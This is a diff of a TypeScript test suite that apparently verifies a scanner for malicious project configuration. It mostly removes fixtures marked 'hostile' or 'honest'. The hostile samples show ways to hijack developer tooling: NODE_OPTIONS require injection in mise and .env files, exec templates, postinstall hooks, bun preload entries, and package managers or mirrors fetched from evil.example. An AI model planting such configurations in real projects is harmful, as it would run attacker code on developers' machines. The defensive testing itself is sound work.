@@ -53,8 +53,6 @@ const variables: readonly Case[] = [
   hostile('a folder that varlock is given', through('varlock run --path conf --'), {
     'conf/.env.schema': 'A=exec("./evil")\n',
   }),
-  hostile('.env of Bun', bunx, { '.env': loader }),
-  hostile('.env.production.local of Bun', bunx, { '.env.production.local': loader }),
   hostile('--env of deno', `deno run --env -A npm:${server}`, {
     '.env': 'DENO_DIR=./d\n',
     'd/x.js': '',
@@ -88,12 +86,6 @@ const variables: readonly Case[] = [
   }),
   hostile('a fallback of doppler', through('doppler run --fallback ./secrets.enc --'), {
     'secrets.enc': 'x',
-  }),
-  hostile('secrets in fnox.toml', through('fnox run --'), {
-    'fnox.toml': '[secrets.NODE_OPTIONS]\ndefault = "--require ./evil.js"\n',
-  }),
-  hostile('a file of variables of teller', through('teller run --'), {
-    '.teller.yml': 'providers:\n  x:\n    kind: dotenv\n',
   }),
 ];
 
@@ -170,18 +162,6 @@ const managers: readonly Case[] = [
   hostile('node mirrors of pnpm', dlx, {
     'pnpm-workspace.yaml': 'nodeDownloadMirrors:\n  release: https://evil.example/\n',
   }),
-  hostile('a manager from an address', dlx, {
-    'package.json': '{"packageManager":"pnpm@https://evil.example/pnpm.tgz"}',
-  }),
-  hostile('a manager from a file', yarn, {
-    'package.json': '{"packageManager":"yarn@file:./evil.tgz"}',
-  }),
-  hostile(
-    'a manager that cannot be read',
-    dlx,
-    { 'package.json': '{"packageManager":' },
-    elsewhere,
-  ),
   hostile('yarnPath', yarn, { '.yarnrc.yml': 'yarnPath: ./evil.cjs\n' }),
   hostile('a release of Yarn', yarn, { '.yarnrc.yml': yarnPath, [release]: 'evil()' }),
   hostile('a release of Yarn 1', yarn, {
@@ -276,51 +256,6 @@ const managers: readonly Case[] = [
 ];
 
 const tools: readonly Case[] = [
-  hostile('mise: a variable', through('mise x --'), {
-    'mise.toml': '[env]\nNODE_OPTIONS = "--require ./evil.js"\n',
-  }),
-  hostile('mise behind a shim', npx, { '.mise.toml': '[env]\nNODE_OPTIONS = "-r ./evil.js"\n' }),
-  ...['mise.local.toml', 'mise.dev.toml', '.config/mise/config.toml', '.mise/conf.d/x.toml'].map(
-    (path) => hostile(path, npx, { [path]: '[env]\nNODE_OPTIONS = "-r ./evil.js"\n' }),
-  ),
-  hostile('mise: a folder of programs', npx, {
-    'mise.toml': '[env]\n_.path = ["./bin"]\n',
-    'bin/npx': { executable: '#!/bin/sh\n' },
-  }),
-  hostile('mise: a script', npx, { 'mise.toml': '[env]\n_.source = "./env.sh"\n', 'env.sh': '' }),
-  hostile('mise: a file of variables', npx, {
-    'mise.toml': '[env]\n_.file = ["conf/x.env"]\n',
-    'conf/x.env': loader,
-  }),
-  hostile('mise: a file of variables above its own folder', npx, {
-    '.config/mise.toml': '[env]\n_.file = "{{config_root}}/conf/x.env"\n',
-    'conf/x.env': loader,
-  }),
-  hostile('mise: a template that runs a command', npx, {
-    'mise.toml': '[env]\nPORT = "{{ exec(command=\'./evil\') }}"\n',
-  }),
-  hostile(
-    'mise: a mirror behind a shim',
-    npx,
-    {
-      'mise.toml': '[settings]\nnode.mirror_url = "https://evil.example/"\n',
-    },
-    elsewhere,
-  ),
-  ...['env_file', 'settings.env_file', 'env._.file'].map((key) =>
-    hostile(`mise: ${key}`, npx, { 'mise.toml': `${key} = "x.env"\n`, 'x.env': loader }),
-  ),
-  hostile('mise: a file of variables in JSON', npx, {
-    'mise.toml': '[env]\n_.file = "x.json"\n',
-    'x.json': '{"NODE_OPTIONS":"--require=./evil.js"}',
-  }),
-  hostile('mise: a file of variables by a template', npx, {
-    'mise.toml': '[env]\n_.file = "{{ cwd }}/x.env"\n',
-    'x.env': loader,
-  }),
-  hostile('mise: a hook of an installation', through('mise x --'), {
-    'mise.toml': '[hooks]\npostinstall = "./evil"\n',
-  }),
   ...[
     'doppler run --api-host https://evil.example --',
     'doppler run --api-host=evil.example --',
@@ -348,32 +283,6 @@ const tools: readonly Case[] = [
       expected: 'changed',
     }),
   ),
-  hostile('mise: node by a path', npx, {
-    'mise.toml': '[tools]\nnode = "path:./node"\n',
-    'node/bin/npx': { executable: '#!/bin/sh\n' },
-  }),
-  ...[
-    '[tools]\n"http:node" = { version = "1", url = "https://evil.example/" }\n',
-    '[tools]\n"npm:evil" = "1"\n',
-    '[tools]\n"ubi:evil/npx" = "latest"\n',
-    '[tools]\nnode = "ref:0123456789abcdef"\n',
-    '[tools]\nnode = { version = "ref:main" }\n',
-    '[alias]\nnode = "asdf:evil/plugin"\n',
-    '[tool_alias.node.versions]\nlts = "ref:main"\n',
-    '[plugins]\nnode = "https://evil.example/plugin.git"\n',
-    '[tools.node]\nversion = "22"\npostinstall = "./evil"\n',
-  ].flatMap((text) =>
-    [npx, through('mise x --')].map((line) =>
-      hostile(`${line} with ${text}`, line, { 'mise.toml': text }),
-    ),
-  ),
-  ...['nodejs ref:0123456\n', 'npm:evil 1.0\n', 'nodejs 22 ref:main\n'].map((text) =>
-    hostile(`.tool-versions: ${text}`, npx, { '.tool-versions': text }),
-  ),
-  hostile('.tool-versions with a path', npx, {
-    '.tool-versions': 'nodejs path:./node\n',
-    'node/bin/npx': { executable: '#!/bin/sh\n' },
-  }),
   // Options that mean what a variable does.
   ...(
     [
@@ -519,22 +428,10 @@ const usual: readonly Case[] = [
     '.env':
       '# keys\nexport OPENAI_API_KEY="sk-x"\nPORT=3000\nNODE_ENV=production\nDATABASE_URL=postgres://db/x\nLOG_LEVEL=debug\n',
   }),
-  honest('API keys of Bun', bunx, { '.env': 'API_KEY=x\n', '.env.example': 'API_KEY=\n' }),
   honest('a price in a file of variables', through('dotenvx run --'), { '.env': 'PRICE="$5"\n' }),
   honest('options of doppler', through('doppler run -p app -c dev --'), {
     'doppler.yaml': 'setup:\n  project: app\n  config: dev\n',
     'dev/x.md': '',
-  }),
-  honest('versions of tools', npx, {
-    'mise.toml':
-      'env_file = ".env"\n[settings]\nexperimental = true\nnode.compile = false\n[hooks]\nenter = "echo hi"\n[tools]\nnode = "22"\npython = ["3.12", "3.11"]\n[env]\nNODE_ENV = "development"\n_.path = ["node_modules/.bin"]\n_.file = ".env"\n[tasks.build]\nrun = "npm run build"\n',
-    '.tool-versions': 'nodejs 22.1.0\npython 3.12.1 system # both\n',
-    '.nvmrc': '22\n',
-    '.node-version': '22.1.0\n',
-  }),
-  honest('versions of tools for mise itself', through('mise x node@22 --'), {
-    'mise.toml':
-      '[tools]\nnode = "22"\n"aqua:jqlang/jq" = "1.7"\n[settings]\nexperimental = true\n',
   }),
   honest('a project of uv', uvRun, {
     'uv.toml': 'index-strategy = "first-index"\n',
@@ -576,7 +473,6 @@ const usual: readonly Case[] = [
     '.config/dotnet-tools.json':
       '{"version":1,"isRoot":true,"tools":{"dotnet-ef":{"version":"9.0.0","commands":["dotnet-ef"]}}}',
   }),
-  honest('variables that nothing reads', npx, { '.env': loader }),
   honest('an encrypted file that no option names', through('doppler run --'), { 'a.enc': 'x' }),
 ];
 
@@ -590,15 +486,10 @@ const places: readonly Case[] = [
   ...['-C sub', '--dir=sub'].map((words) =>
     hostile(`pnpm ${words}`, `pnpm ${words} dlx ${server}`, evilRegistry, elsewhere),
   ),
-  hostile('bun --cwd', `bun --cwd=sub x ${server}`, { 'sub/.env': loader }),
-  hostile('bunx --cwd', `bunx --cwd=sub ${server}`, { 'sub/.env': loader }),
-  hostile('yarn --cwd', `yarn --cwd sub dlx ${server}`, evilRegistry, elsewhere),
-  hostile(
-    'go -C',
-    'go run -C sub example.com/x@v1.0.0',
-    { 'sub/mise.toml': '[env]\nGOFLAGS = "-toolexec=./evil"\n' },
-    unlisted,
+  ...[`bun --cwd=sub x ${server}`, `bunx --cwd=sub ${server}`].map((line) =>
+    hostile(line, line, { 'sub/bunfig.toml': 'preload = ["./evil.ts"]\n', 'sub/evil.ts': '' }),
   ),
+  hostile('yarn --cwd', `yarn --cwd sub dlx ${server}`, evilRegistry, elsewhere),
   hostile(
     'uvx --directory',
     'uvx --directory sub --env-file x.env other-mcp==1.0.0',
